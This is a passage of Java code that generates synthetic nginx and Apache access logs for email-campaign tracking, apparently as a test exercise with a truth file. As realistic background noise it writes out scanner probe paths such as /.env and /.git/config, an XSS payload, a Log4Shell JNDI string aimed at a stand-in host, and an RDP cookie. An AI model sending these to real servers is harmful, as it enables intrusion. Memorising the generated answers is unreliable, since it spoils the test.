  // ---------------------------------------------------------------- strangers

  /** Tracked URLs fetched by programs, and tracked URLs whose token was never sent to anyone. */
  private static final class Strangers {
    private static final List<String> PROGRAMS =
        List.of("curl/8.5.0", "python-requests/2.32.3", "Wget/1.21.4", Agents.AHREFSBOT);

    private final Plan plan;
    private final List<Delivery> deliveries;

    Strangers(Plan plan, List<Delivery> deliveries) {
      this.plan = plan;
      this.deliveries = deliveries.stream().filter(d -> !d.bounced()).toList();
    }

    void visit() {
      for (int i = 0; i < 30; i++) {
        programOnKnownToken(new Dice("program", i));
      }
      for (int i = 0; i < 10; i++) {
        testMail(i < 6 ? SPRING_REPORT : RIVER_NEWS, new Dice("test mail", i));
      }
      for (int i = 0; i < 16; i++) {
        forgedToken(new Dice("forged", i));
      }
    }

    private void programOnKnownToken(Dice dice) {
      Delivery delivery = dice.pick(deliveries);
      Instant at = delivery.accepted.plus(dice.lognormal(Duration.ofHours(10), 1.0));
      String address = Addresses.rentedServer(dice);
      String agent = dice.pick(PROGRAMS);
      boolean document = dice.chance(0.5);
      plan.add(
          at,
          document ? Site.FILES : delivery.campaign.site(),
          Request.get(document ? delivery.download() : delivery.pixel(), address, agent),
          delivery,
          Fetch.MACHINE);
    }

    /** The senders' own test mails, opened in the hour before a campaign. */
    private void testMail(Campaign campaign, Dice dice) {
      Instant at = campaign.start().minusSeconds(dice.between(600, 3600));
      String address = Addresses.person(dice);
      String agent = dice.pick(List.of(Agents.BARE_WEBKIT, Agents.BROWSERS.get(0)));
      String base = "/o/" + campaign.id() + "/" + dice.token() + "/";
      String image = dice.pick(campaign.variants()).encodedImage();
      plan.add(at, campaign.site(), Request.get(base + "px.gif", address, agent));
      plan.add(at, campaign.site(), Request.get(base + image, address, agent));
    }

    private void forgedToken(Dice dice) {
      Campaign campaign = dice.pick(List.of(SPRING_REPORT, RIVER_NEWS));
      String token = dice.chance(0.3) ? dice.pick(List.of("test", "0", "admin")) : dice.token();
      String file = dice.pick(List.of("px.gif", "px.gif?cb=17", "logo.png"));
      String agent = dice.pick(List.of(Agents.GOOGLE_IMAGE_PROXY, "curl/8.5.0", "Mozilla/5.0"));
      plan.add(
          campaign.start().plus(dice.lognormal(Duration.ofHours(12), 1.0)),
          campaign.site(),
          Request.get(
              "/o/" + campaign.id() + "/" + token + "/" + file,
              Addresses.rentedServer(dice),
              agent));
    }
  }

  // ---------------------------------------------------------------- ordinary traffic

  /** Everything a server logs that has nothing to do with the mail. */
  private static final class OrdinaryTraffic {
    private static final List<String> SEARCHES =
        Arrays.asList(
            "https://www.google.com/", "https://www.bing.com/", "https://duckduckgo.com/", null);
    private static final List<String> PROBES =
        List.of(
            "/wp-login.php",
            "/xmlrpc.php",
            "/.env",
            "/.git/config",
            "/wp-admin/setup-config.php",
            "/phpmyadmin/index.php",
            "/administrator/",
            "/cgi-bin/luci",
            "/actuator/health",
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            "/boaform/admin/formLogin",
            "/wp-content/plugins/hellopress/wp_filemanager.php");

    private final Plan plan;

    OrdinaryTraffic(Plan plan) {
      this.plan = plan;
    }

    void visit() {
      times(900, "www visit", dice -> visit(Site.WWW, Documents.WWW_PAGES, dice));
      times(330, "old visit", dice -> visit(Site.OLD, Documents.OLD_PAGES, dice));
      times(110, "news visit", dice -> visit(Site.NEWS, Documents.NEWS_PAGES, dice));
      times(180, "public document", this::publicDocument);
      times(600, "crawler", this::crawl);
      times(70, "probe", this::probe);
      for (Site site : List.of(Site.MAIL, Site.WWW, Site.OLD)) {
        times(2, "odd requests " + site, dice -> oddRequests(site, dice));
      }
      for (Site site : List.of(Site.MAIL, Site.WWW)) {
        times(3, "garbage " + site, dice -> garbage(site, dice));
      }
      watch(Site.MAIL, Duration.ofMinutes(15), 0);
      watch(Site.WWW, Duration.ofMinutes(30), 120);
    }

    private void times(int count, String purpose, Consumer<Dice> action) {
      for (int i = 0; i < count; i++) {
        action.accept(new Dice(purpose, i));
      }
    }

    private void visit(Site site, Map<String, List<String>> pages, Dice dice) {
      String address = Addresses.person(dice);
      String agent = dice.pick(Agents.BROWSERS);
      Instant at = dice.wakingMoment();
      String referer = dice.pick(SEARCHES);
      Set<String> cached = new HashSet<>();
      boolean wasHereBefore = dice.chance(0.25);
      for (int views = dice.between(1, 4); views > 0; views--) {
        String page = dice.pick(List.copyOf(pages.keySet()));
        plan.add(at, site, Request.get(page, address, agent).from(referer));
        referer = "https://" + site.host + page;
        for (String asset : pages.get(page)) {
          if (cached.add(asset)) {
            Request request = Request.get(asset, address, agent).from(referer);
            plan.add(at.plusSeconds(1), site, wasHereBefore ? request.ifModifiedSince() : request);
          }
        }
        at = at.plusSeconds(dice.between(8, 240));
      }
    }

    private void publicDocument(Dice dice) {
      Instant at = dice.wakingMoment();
      String agent = dice.pick(Agents.BROWSERS);
      String target = dice.pick(List.of("/public/annual-report-2024.pdf", "/public/statutes.pdf"));
      Request request = Request.get(target, Addresses.person(dice), agent);
      plan.add(at, Site.FILES, request.from("https://www.example.org/reports/"));
    }

    private void crawl(Dice dice) {
      Site site =
          dice.pick(List.of(Site.WWW, Site.WWW, Site.OLD, Site.NEWS, Site.FILES, Site.MAIL));
      List<String> targets = new ArrayList<>(List.of("/robots.txt", "/"));
      if (site == Site.WWW) {
        targets.addAll(Documents.WWW_PAGES.keySet());
      } else if (site == Site.OLD) {
        targets.addAll(Documents.OLD_PAGES.keySet());
      }
      Instant at = dice.anyMoment();
      String target = dice.pick(targets);
      switch (dice.between(0, 2)) {
        case 0 ->
            plan.add(at, site, Request.get(target, Addresses.googlebot(dice), Agents.GOOGLEBOT));
        case 1 -> plan.add(at, site, Request.get(target, Addresses.bingbot(dice), Agents.BINGBOT));
        default ->
            plan.add(at, site, Request.get(target, Addresses.rentedServer(dice), Agents.AHREFSBOT));
      }
    }

    private void probe(Dice dice) {
      Site site = dice.pick(List.of(Site.WWW, Site.OLD, Site.FILES, Site.MAIL, Site.MAIL));
      String address = Addresses.rentedServer(dice);
      String agent = dice.pick(Arrays.asList(null, "Go-http-client/1.1", "Mozilla/5.0 zgrab/0.x"));
      Instant at = dice.anyMoment();
      for (int i = dice.between(4, PROBES.size()); i > 0; i--) {
        plan.add(at, site, Request.get(dice.pick(PROBES), address, agent));
        at = at.plusSeconds(dice.between(0, 2));
      }
    }

    /** Valid HTTP that a log has to escape. */
    private void oddRequests(Site site, Dice dice) {
      List<Request> odd =
          List.of(
              Request.get("/search?q=\"rivers\"", null, "Mozilla/5.0 \"quoted\" agent"),
              Request.get("/search?q=a\\b&path=C:\\temp", null, "back\\slash \\\" and quote"),
              Request.get("/caf\u00e9/", null, "Leser/1.0 (M\u00fcnchen; \u65e5\u672c\u8a9e)"),
              Request.get("/search?q=" + "river+".repeat(500), null, "Mozilla/5.0"),
              Request.get(
                  "/?x=%22%3E%3Cscript%3Ealert(1)%3C/script%3E", null, "<script>alert(1)</script>"),
              Request.get("/", null, "${jndi:ldap://198.18.0.9/a}").from("\"><img src=x>"),
              Request.get("/", null, "tab\there").from("https://www.example.org/?a=\"b\""),
              new Request("PROPFIND", "/", null, "DavClnt", null, null, null),
              new Request("OPTIONS", "*", null, null, null, null, null),
              Request.get("http://www.example.org/reports/", null, "-"));
      for (Request request : odd) {
        plan.add(dice.anyMoment(), site, request.by(Addresses.rentedServer(dice)));
      }
    }

    /** Bytes that are no HTTP; the server cannot read an address header from them either. */
    private void garbage(Site site, Dice dice) {
      List<String> garbage =
          List.of(
              "\u0016\u0003\u0001\u0000\u00ee\u0001\u0000\u0000\u00ea\u0003\u0003\u00a7\"\\\r\n",
              "\u0003\u0000\u0000/*\u00e0\u0000\u0000\u0000\u0000\u0000Cookie:"
                  + " mstshash=Administr\r\n",
              "SSH-2.0-Go\r\n",
              "GET / HTTP/1.1\r\n\r\n",
              "GET /\r\n",
              "OPTIONS / RTSP/1.0\r\n\r\n",
              "HELP\r\n\r\n",
              "GET /search?q=two words HTTP/1.1\r\nHost: example.org\r\n\r\n");
      for (String bytes : garbage) {
        plan.add(dice.anyMoment(), site, Request.raw(bytes));
      }
    }

    private void watch(Site site, Duration every, int offset) {
      String address = Addresses.rentedServer(new Dice("monitor", 0));
      for (Instant at = START.plusSeconds(offset); at.isBefore(END); at = at.plus(every)) {
        plan.add(at, site, Request.head("/", address, Agents.MONITOR));
      }
    }
  }

  // ---------------------------------------------------------------- documents

  /** What the servers serve, so that status and bytes in the logs are genuine. */
  private static final class Documents {
    static final String LAST_MODIFIED = "Thu, 20 Mar 2025 10:00:00 GMT";
    private static final FileTime MODIFIED = FileTime.from(Instant.parse("2025-03-20T10:00:00Z"));

    /** The pages of each site and the files that a page pulls in. */
    static final Map<String, List<String>> WWW_PAGES = wwwPages();

    static final Map<String, List<String>> OLD_PAGES = oldPages();
    static final Map<String, List<String>> NEWS_PAGES =
        Map.of("/", List.of("/style.css", "/favicon.ico"));

    private static final byte[] PIXEL =
        Base64.getDecoder().decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==");

    private Documents() {}

    private static Map<String, List<String>> wwwPages() {
      Map<String, List<String>> pages = new LinkedHashMap<>();
      List<String> common =
          List.of("/css/site.css", "/js/site.js", "/img/logo.png", "/favicon.ico");
      pages.put("/", with(common, "/img/delta-from-the-air.jpg"));
      pages.put("/about/", with(common, "/img/our-team-on-the-dike.jpg"));
      pages.put("/reports/", with(common, "/img/report-covers.png"));
      pages.put("/reports/climate-report-2025/", with(common, "/img/chart-discharge.png"));
      pages.put("/news/2025/03/river-levels/", with(common, "/img/gauge-lobith.jpg"));
      pages.put("/contact/", common);
      return pages;
    }

    private static Map<String, List<String>> oldPages() {
      Map<String, List<String>> pages = new LinkedHashMap<>();
      List<String> common = List.of("/style.css", "/favicon.ico");
      pages.put("/", with(common, "/images/header.gif"));
      pages.put("/archive/2019/", common);
      pages.put("/archive/2021/high-water/", with(common, "/images/IMG_0412.JPG"));
      return pages;
    }

    private static List<String> with(List<String> common, String more) {
      List<String> all = new ArrayList<>(common);
      all.add(more);
      return List.copyOf(all);
    }

    static void write(Path root) throws IOException {
      write(root.resolve("mail/index.html"), page("mail", 612));
      write(root.resolve("mail/robots.txt"), text("User-agent: *\nDisallow: /o/\n"));
      write(root.resolve("files/public/annual-report-2024.pdf"), pdf(241_377));
      write(root.resolve("files/public/statutes.pdf"), pdf(58_214));
      write(root.resolve("files/robots.txt"), text("User-agent: *\nDisallow: /d/\n"));
      writeSite(root.resolve("www"), WWW_PAGES);
      writeSite(root.resolve("old"), OLD_PAGES);
      writeSite(root.resolve("news"), NEWS_PAGES);
      write(root.resolve("campaign/px.gif"), PIXEL);
      write(root.resolve("campaign/spring-report.png"), png(320, 190));
      write(root.resolve("campaign/river-news.png"), png(300, 160));
      write(root.resolve("campaign/" + SPRING_REPORT.document()), pdf(412_873));
      write(root.resolve("campaign/" + RIVER_NEWS.document()), pdf(187_340));
    }

    private static void writeSite(Path root, Map<String, List<String>> pages) throws IOException {
      for (Map.Entry<String, List<String>> page : pages.entrySet()) {
        String path = page.getKey().substring(1);
        write(root.resolve(path + "index.html"), page(path, 2400 + 311 * path.length()));
        for (String asset : page.getValue()) {
          write(root.resolve(asset.substring(1)), asset(asset));
        }
      }
      write(root.resolve("robots.txt"), text("User-agent: *\nAllow: /\n"));
    }

    private static byte[] asset(String path) {
      int size = 900 + Math.floorMod(path.hashCode(), 30_000);
      if (path.endsWith(".png")) {
        return png(150, 40 + size / 200);
      }
      return padded("/* " + path + " */\n", size);
    }

    private static void write(Path file, byte[] bytes) throws IOException {
      Files.createDirectories(file.getParent());
      Files.write(file, bytes);
      Files.setLastModifiedTime(file, MODIFIED);
    }

    private static byte[] text(String text) {
      return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] page(String title, int size) {
      return padded("<!doctype html><title>" + title + "</title>\n", size);
    }

    private static byte[] pdf(int size) {
      return padded("%PDF-1.4\n", size);
    }

    private static byte[] padded(String start, int size) {
      byte[] bytes = new byte[size];
      Arrays.fill(bytes, (byte) ' ');
      byte[] head = text(start);
      System.arraycopy(head, 0, bytes, 0, head.length);
      return bytes;
    }

    /** A grey picture in stored, not compressed blocks: its size does not depend on a zlib. */
    private static byte[] png(int width, int height) {
      byte[] rows = new byte[height * (width + 1)];
      for (int i = 0; i < rows.length; i++) {
        rows[i] = (byte) (i % (width + 1) == 0 ? 0 : i * 7);
      }
      ByteBuffer header = ByteBuffer.allocate(13).putInt(width).putInt(height);
      header.put((byte) 8).put(new byte[4]);
      ByteArrayOutputStream png = new ByteArrayOutputStream();
      png.writeBytes(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'});
      chunk(png, "IHDR", header.array());
      chunk(png, "IDAT", stored(rows));
      chunk(png, "IEND", new byte[0]);
      return png.toByteArray();
    }

    private static void chunk(ByteArrayOutputStream png, String type, byte[] data) {
      byte[] name = text(type);
      CRC32 sum = new CRC32();
      sum.update(name);
      sum.update(data);
      ByteBuffer chunk = ByteBuffer.allocate(data.length + 12);
      chunk.putInt(data.length).put(name).put(data).putInt((int) sum.getValue());
      png.writeBytes(chunk.array());
    }

    private static byte[] stored(byte[] data) {
      Adler32 sum = new Adler32();
      sum.update(data);
      if (data.length > 0xffff) {
        throw new IllegalArgumentException("a stored block holds at most 65535 bytes");
      }
      byte low = (byte) data.length;
      byte high = (byte) (data.length >> 8);
      ByteBuffer zlib = ByteBuffer.allocate(data.length + 11);
      zlib.put((byte) 0x78).put((byte) 1).put((byte) 1);
      zlib.put(low).put(high).put((byte) ~low).put((byte) ~high);
      zlib.put(data).putInt((int) sum.getValue());
      return zlib.array();
    }
  }

  // ---------------------------------------------------------------- servers

  /** Where the programs of the operating system are. */
  private record Programs(Path nginx, Path apache, Path faketime, Path apacheModules) {
    private static final String INSTALL =
        "Install what this program needs: apt-get install nginx apache2 libfaketime tzdata";

    static Programs find() throws CannotMake, IOException {
      if (!Files.exists(Path.of("/usr/share/zoneinfo", ZONE.getId()))) {
        throw new CannotMake("The time zone " + ZONE + " is missing. " + INSTALL);
      }
      return new Programs(
          program("nginx"),
          program("apache2"),
          library("faketime/libfaketime.so.1"),
          existing("Apache's module directory", Path.of("/usr/lib/apache2/modules")));
    }

    private static Path program(String name) throws CannotMake {
      Stream<String> path = Arrays.stream(System.getenv("PATH").split(":"));
      return Stream.concat(path, Stream.of("/usr/sbin", "/usr/local/sbin"))
          .map(directory -> Path.of(directory, name))
          .filter(Files::isExecutable)
          .findFirst()
          .orElseThrow(() -> new CannotMake(name + " is missing. " + INSTALL));
    }

    private static Path library(String name) throws CannotMake, IOException {
      try (Stream<Path> directories = Files.list(Path.of("/usr/lib"))) {
        return directories
            .map(directory -> directory.resolve(name))
            .filter(Files::exists)
            .sorted()
            .findFirst()
            .orElseThrow(() -> new CannotMake("libfaketime is missing. " + INSTALL));
      }
    }

    private static Path existing(String what, Path path) throws CannotMake {
      if (!Files.exists(path)) {
        throw new CannotMake(what + " " + path + " is missing. " + INSTALL);
      }
      return path;
    }
  }

  /** The clock of both servers: a file that libfaketime reads each time they ask for the time. */
  private static final class ServerClock implements AutoCloseable {
    private static final DateTimeFormatter FORMAT =
        DateTimeFormatter.ofPattern("uuuu-MM-dd HH:mm:ss\n", Locale.ROOT).withZone(ZONE);

    private final Path file;
    private final FileChannel channel;
    private Instant now;

    ServerClock(Path file, Instant start) throws IOException {
      this.file = file;
      this.channel = FileChannel.open(file, StandardOpenOption.CREATE, StandardOpenOption.WRITE);
      set(start);
    }

    /** Overwrites in one write of constant length: a reader never meets half a time. */
    void set(Instant instant) throws IOException {
      if (!instant.equals(now)) {
        byte[] text = FORMAT.format(instant).getBytes(StandardCharsets.US_ASCII);
        channel.write(ByteBuffer.wrap(text), 0);
        now = instant;
      }
    }

    Map<String, String> environment(Programs programs) {
      return Map.of(
          "LD_PRELOAD",
          programs.faketime().toString(),
          "FAKETIME_TIMESTAMP_FILE",
          file.toString(),
          "FAKETIME_NO_CACHE",
          "1",
          // The servers time their connections with the monotonic clock, which must run on.
          "FAKETIME_DONT_FAKE_MONOTONIC",
          "1",
          // Without this, libfaketime shifts the documents' modification times as well.
          "NO_FAKE_STAT",
          "1",
          "TZ",
          ZONE.getId(),
          "PATH",
          System.getenv("PATH"));
    }

    @Override
    public void close() throws IOException {
      channel.close();
    }
  }

  /** A server process and the connection to it. */
  private static final class WebServer implements Closeable {
    private final Process process;
    private final boolean keepsConnections;
    private final int port;
    private final Path errors;
    private final Thread endWithUs;
    private Socket socket;
    private InputStream input;
    private int sent;

    private WebServer(Process process, boolean keepsConnections, int port, Path errors) {
      this.process = process;
      this.keepsConnections = keepsConnections;
      this.port = port;
      this.errors = errors;
      this.endWithUs = new Thread(process::destroy);
      Runtime.getRuntime().addShutdownHook(endWithUs);
    }

    static WebServer start(
        List<String> command,
        Map<String, String> environment,
        boolean keepsConnections,
        int port,
        Path errors)
        throws Exception {
      ProcessBuilder builder = new ProcessBuilder(command).redirectErrorStream(true);
      builder.redirectOutput(ProcessBuilder.Redirect.appendTo(errors.toFile()));
      builder.environment().clear();
      builder.environment().putAll(environment);
      WebServer server = new WebServer(builder.start(), keepsConnections, port, errors);
      try {
        server.awaitStart();
      } catch (CannotMake | InterruptedException e) {
        server.close();
        throw e;
      }
      return server;
    }

    static int freePort() throws IOException {
      try (ServerSocket probe = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
        return probe.getLocalPort();
      }
    }

    private void awaitStart() throws CannotMake, InterruptedException, IOException {
      for (int attempt = 0; attempt < 100 && process.isAlive(); attempt++) {
        try {
          connect();
          disconnect();
          return;
        } catch (IOException notYet) {
          Thread.sleep(100);
        }
      }
      throw new CannotMake("A server did not start: " + Files.readString(errors).strip());
    }

    private void connect() throws IOException {
      socket = new Socket(InetAddress.getByName("127.0.0.1"), port);
      socket.setTcpNoDelay(true);
      socket.setSoTimeout(20_000);
      input = new BufferedInputStream(socket.getInputStream(), 1 << 16);
    }

    void disconnect() throws IOException {
      if (socket != null) {
        socket.close();
        socket = null;
      }
    }

    int sent() {
      return sent;
    }

    void send(Site site, Request request) throws IOException {
      sent++;
      if (request.raw() != null) {
        sendRaw(request.raw().getBytes(StandardCharsets.ISO_8859_1));
        return;
      }
      if (socket == null) {
        connect();
      }
      OutputStream output = socket.getOutputStream();
      output.write(request.bytes(site.host));
      output.flush();
      if (!readResponse(request.method().equals("HEAD")) || !keepsConnections) {
        disconnect();
      }
    }

    /** Garbage gets a connection of its own, which ends when the server has answered. */
    private void sendRaw(byte[] bytes) throws IOException {
      disconnect();
      connect();
      socket.getOutputStream().write(bytes);
      socket.shutdownOutput();
      input.readAllBytes();
      disconnect();
    }

    /** Reads one response to its end; false when the server closes the connection after it. */
    private boolean readResponse(boolean headOnly) throws IOException {
      String status = readLine();
      long length = 0;
      boolean keep = true;
      for (String line = readLine(); !line.isEmpty(); line = readLine()) {
        String header = line.toLowerCase(Locale.ROOT);
        if (header.startsWith("content-length:")) {
          length = Long.parseLong(header.substring(15).strip());
        } else if (header.equals("connection: close")) {
          keep = false;
        } else if (header.startsWith("transfer-encoding:")) {
          throw new IOException("Unexpected chunked response: " + status);
        }
      }
      if (!headOnly && !status.contains(" 304 ")) {
        input.skipNBytes(length);
      }
      return keep;
    }

    private String readLine() throws IOException {
      StringBuilder line = new StringBuilder();
      for (int next = input.read(); next != '\n'; next = input.read()) {
        if (next < 0) {
          throw new IOException(
              "The server ended the connection; see its errors: " + Files.readString(errors));
        }
        line.append((char) next);
      }
      return line.toString().strip();
    }

    @Override
    public void close() throws IOException {
      disconnect();
      process.destroy();
      try {
        process.onExit().get(10, TimeUnit.SECONDS);
      } catch (InterruptedException | ExecutionException | TimeoutException e) {
        process.descendants().forEach(ProcessHandle::destroyForcibly);
        process.destroyForcibly();
      }
      Runtime.getRuntime().removeShutdownHook(endWithUs);
      // libfaketime leaves its shared memory behind.
      Files.deleteIfExists(Path.of("/dev/shm/faketime_shm_" + process.pid()));
      Files.deleteIfExists(Path.of("/dev/shm/sem.faketime_sem_" + process.pid()));
    }
  }

  private static final class Nginx {
    private static final String CONFIGURATION =
        """
        daemon off;
        # One process, so that lines are written in the order of the requests.
        master_process off;
        pid %1$s/nginx.pid;
        error_log %1$s/nginx-errors;
        # nginx drops its environment, and libfaketime reads it at every call.
        env FAKETIME_TIMESTAMP_FILE;
        env FAKETIME_NO_CACHE;
        env FAKETIME_DONT_FAKE_MONOTONIC;
        env NO_FAKE_STAT;
        events { }
        http {
          types { text/html html; text/plain txt; image/gif gif; image/png png; }
          client_body_temp_path %1$s/nginx-body;
          proxy_temp_path %1$s/nginx-proxy;
          fastcgi_temp_path %1$s/nginx-fastcgi;
          uwsgi_temp_path %1$s/nginx-uwsgi;
          scgi_temp_path %1$s/nginx-scgi;
          # No format is named: this is the built-in "combined".
          access_log %1$s/%2$s;
          server_tokens off;
          # A lingering connection is logged when it ends, by then with the next request's time.
          lingering_close off;
          set_real_ip_from 127.0.0.1;
          real_ip_header X-Forwarded-For;
          server {
            listen 127.0.0.1:%3$d;
            server_name %4$s;
            root %1$s/documents/mail;
            location ~ "^/o/spring-report/[^/]+/px[.]gif$" {
              alias %1$s/documents/campaign/px.gif;
            }
            location ~ "^/o/spring-report/[^/]+/(%5$s)$" {
              alias %1$s/documents/campaign/spring-report.png;
            }
          }
        }
        """;

    private Nginx() {}

    static WebServer start(Programs programs, Path work, ServerClock clock) throws Exception {
      int port = WebServer.freePort();
      Path configuration = work.resolve("nginx.conf");
      Path log = work.resolve(Log.NGINX.path);
      Files.createDirectories(log.getParent());
      Files.writeString(
          configuration,
          String.format(
              Locale.ROOT,
              CONFIGURATION,
              work,
              Log.NGINX.path,
              port,
              Site.MAIL.host,
              imagePattern(SPRING_REPORT)));
      Path errors = work.resolve("nginx-errors");
      List<String> command =
          List.of(
              programs.nginx().toString(),
              "-p",
              work.toString(),
              "-c",
              configuration.toString(),
              "-e",
              errors.toString());
      // On a kept connection nginx may take up the next request before it looks at the clock again.
      return WebServer.start(command, clock.environment(programs), false, port, errors);
    }
  }

  private static String imagePattern(Campaign campaign) {
    return campaign.variants().stream()
        .map(variant -> variant.image().replace(".", "[.]"))
        .collect(Collectors.joining("|"));
  }

  private static final class Apache {
    private static final List<String> MODULES =
        List.of("mpm_prefork", "authz_core", "remoteip", "mime", "dir", "alias");

    /** The three formats stand as in Debian's apache2.conf. */
    private static final String CONFIGURATION =
        """
        ServerRoot "%1$s"
        ServerName localhost
        PidFile "%1$s/apache.pid"
        ErrorLog "%1$s/apache-errors"
        Listen 127.0.0.1:%2$d
        User www-data
        Group www-data
        # One worker, so that lines are written in the order of the requests.
        StartServers 1
        MinSpareServers 1
        MaxSpareServers 1
        MaxRequestWorkers 1
        KeepAliveTimeout 300
        MaxKeepAliveRequests 0
        ServerTokens Prod
        TypesConfig "%1$s/types"
        RemoteIPHeader X-Forwarded-For
        RemoteIPInternalProxy 127.0.0.1
        UseCanonicalName On
        LogFormat "%%v:%%p %%h %%l %%u %%t \\"%%r\\" %%>s %%O \\"%%{Referer}i\\" \\"%%{User-Agent}i\\"" vhost_combined
        LogFormat "%%h %%l %%u %%t \\"%%r\\" %%>s %%O \\"%%{Referer}i\\" \\"%%{User-Agent}i\\"" combined
        LogFormat "%%h %%l %%u %%t \\"%%r\\" %%>s %%O" common
        CustomLog "%1$s/%3$s" vhost_combined
        """;

    private static final String HOST =
        """
        <VirtualHost *:%1$d>
          ServerName %2$s:80
          DocumentRoot "%3$s/documents/%4$s"
          %5$s
        </VirtualHost>
        """;

    private Apache() {}

    static WebServer start(Programs programs, Path work, ServerClock clock) throws Exception {
      int port = WebServer.freePort();
      Path configuration = work.resolve("apache.conf");
      Files.createDirectories(work.resolve(Log.FILES.path).getParent());
      Files.writeString(
          work.resolve("types"),
          "text/html html\ntext/css css\ntext/plain txt\nimage/png png\nimage/gif gif\n"
              + "image/jpeg jpg\napplication/pdf pdf\n");
      Files.writeString(configuration, configuration(programs, work, port));
      // A stopping Apache signals its whole process group; setsid gives it one of its own.
      List<String> command =
          List.of(
              "setsid",
              programs.apache().toString(),
              "-DFOREGROUND",
              "-f",
              configuration.toString());
      Path errors = work.resolve("apache-errors");
      return WebServer.start(command, clock.environment(programs), true, port, errors);
    }

    private static String configuration(Programs programs, Path work, int port) {
      StringBuilder text = new StringBuilder();
      for (String module : MODULES) {
        Path file = programs.apacheModules().resolve("mod_" + module + ".so");
        text.append("LoadModule " + module + "_module " + file + "\n");
      }
      String log = Log.OTHER_VHOSTS.path;
      text.append(String.format(Locale.ROOT, CONFIGURATION, work, port, log));
      String campaign = work + "/documents/campaign/";
      // The first host is also the one that gets requests without a host.
      text.append(host(work, port, Site.WWW, ""));
      text.append(
          host(
              work,
              port,
              Site.NEWS,
              alias("^/o/river-news/[^/]+/px[.]gif$", campaign + "px.gif")
                  + alias(
                      "^/o/river-news/[^/]+/(" + imagePattern(RIVER_NEWS) + ")$",
                      campaign + "river-news.png")));
      String downloads = alias("^/d/[^/]+/[^/]+/([a-z0-9-]+[.]pdf)$", campaign + "$1");
      text.append(host(work, port, Site.FILES, downloads + customLog(work, Log.FILES, "combined")));
      text.append(host(work, port, Site.OLD, downloads + customLog(work, Log.OLD, "common")));
      return text.toString();
    }

    private static String host(Path work, int port, Site site, String more) {
      return String.format(Locale.ROOT, HOST, port, site.host, work, site.documents(), more);
    }

    private static String alias(String pattern, String file) {
      return "AliasMatch \"" + pattern + "\" \"" + file + "\"\n  ";
    }

    private static String customLog(Path work, Log log, String format) {
      return "CustomLog \"" + work.resolve(log.path) + "\" " + format + "\n";
    }
  }

  /** Plays the requests and notes where each log stands whenever it would be rotated. */
  private static final class Player {
    private final Path work;
    private final ServerClock clock;
    private final WebServer nginx;
    private final WebServer apache;
    private final Map<Log, List<Integer>> cuts = new EnumMap<>(Log.class);

    Player(Path work, ServerClock clock, WebServer nginx, WebServer apache) {
      this.work = work;
      this.clock = clock;
      this.nginx = nginx;
      this.apache = apache;
    }

    Map<Log, List<byte[]>> play(List<Planned> requests) throws Exception {
      int day = 1;
      for (Planned planned : requests) {
        while (!planned.at().isBefore(rotation(day))) {
          cut();
          day++;
        }
        clock.set(planned.at());
        WebServer server = planned.site() == Site.MAIL ? nginx : apache;
        server.send(planned.site(), planned.request());
      }
      cut();
      Map<Log, List<byte[]>> parts = new EnumMap<>(Log.class);
      for (Log log : Log.values()) {
        parts.put(log, split(Files.readAllBytes(work.resolve(log.path)), cuts.get(log)));
      }
      return parts;
    }

    private static Instant rotation(int day) {
      ZonedDateTime midnight = FIRST_DAY.plusDays(day).atStartOfDay(ZONE);
      return midnight.plus(ROTATION_AFTER_MIDNIGHT).toInstant();
    }

    private void cut() throws Exception {
      nginx.disconnect();
      apache.disconnect();
      awaitLines("nginx", nginx.sent(), List.of(Log.NGINX));
      awaitLines("Apache", apache.sent(), List.of(Log.OTHER_VHOSTS, Log.FILES, Log.OLD));
      for (Log log : Log.values()) {
        int size = (int) Files.size(work.resolve(log.path));
        cuts.computeIfAbsent(log, unused -> new ArrayList<>()).add(size);
      }
    }

    /** A server may write its line a moment after the answer, and must write one per request. */
    private void awaitLines(String server, int expected, List<Log> logs) throws Exception {
      long lines = 0;
      for (int attempt = 0; attempt < 50; attempt++) {
        lines = 0;
        for (Log log : logs) {
          lines += lines(Files.readAllBytes(work.resolve(log.path)));
        }
        if (lines == expected) {
          return;
        }
        Thread.sleep(100);
      }
      throw new CannotMake(
          server
              + " logged "
              + lines
              + " lines for "
              + expected
              + " requests; this program is"
              + " made for one line per request, so the sample would not be the planned one.");
    }

    private static long lines(byte[] bytes) {
      return IntStream.range(0, bytes.length).filter(i -> bytes[i] == '\n').count();
    }

    private static List<byte[]> split(byte[] all, List<Integer> ends) {
      List<byte[]> parts = new ArrayList<>();
      int start = 0;
      for (int end : ends) {
        parts.add(Arrays.copyOfRange(all, start, end));
        start = end;
      }
      return parts;
    }
  }

  // ---------------------------------------------------------------- output

  private static final class Output {
    private Output() {}

    static void write(Path output, Map<Log, List<byte[]>> logs, List<Delivery> deliveries)
        throws IOException {
      for (Map.Entry<Log, List<byte[]>> log : logs.entrySet()) {
        writeRotated(output.resolve(log.getKey().path), log.getValue());
      }
      write(output.resolve("deliveries.csv"), deliveries(deliveries));
      write(output.resolve("truth.csv"), truth(deliveries));
      write(
          output.resolve("networks/2025-02-01/egress-ip-ranges.csv"),
          "172.224.224.0/27,GB,GB-EN,London,\n".getBytes(StandardCharsets.UTF_8));
    }

    /** As logrotate leaves them with "delaycompress": the newest two plain, the older ones gzip. */
    private static void writeRotated(Path log, List<byte[]> days) throws IOException {
      for (int age = 0; age < days.size(); age++) {
        byte[] day = days.get(days.size() - 1 - age);
        if (age == 0) {
          write(log, day);
        } else if (age == 1) {
          write(Path.of(log + ".1"), day);
        } else {
          write(Path.of(log + "." + age + ".gz"), gzip(day));
        }
      }
    }

    private static void write(Path file, byte[] bytes) throws IOException {
      Files.createDirectories(file.getParent());
      Files.write(file, bytes);
    }

    private static byte[] gzip(byte[] bytes) throws IOException {
      ByteArrayOutputStream zipped = new ByteArrayOutputStream();
      try (GZIPOutputStream gzip = new GZIPOutputStream(zipped)) {
        gzip.write(bytes);
      }
      return zipped.toByteArray();
    }

    private static byte[] deliveries(List<Delivery> deliveries) {
      StringBuilder csv = new StringBuilder();
      csv.append("token,recipient,campaign,variant,image,alt,subject,sent_at,accepted_at,status\n");
      for (Delivery d : deliveries) {
        row(
            csv,
            d.token,
            d.recipient.email(),
            d.campaign.id(),
            d.variant.name(),
            d.variant.image(),
            d.campaign.alt(),
            d.campaign.subject(),
            d.sent,
            d.bounced() ? "" : d.accepted,
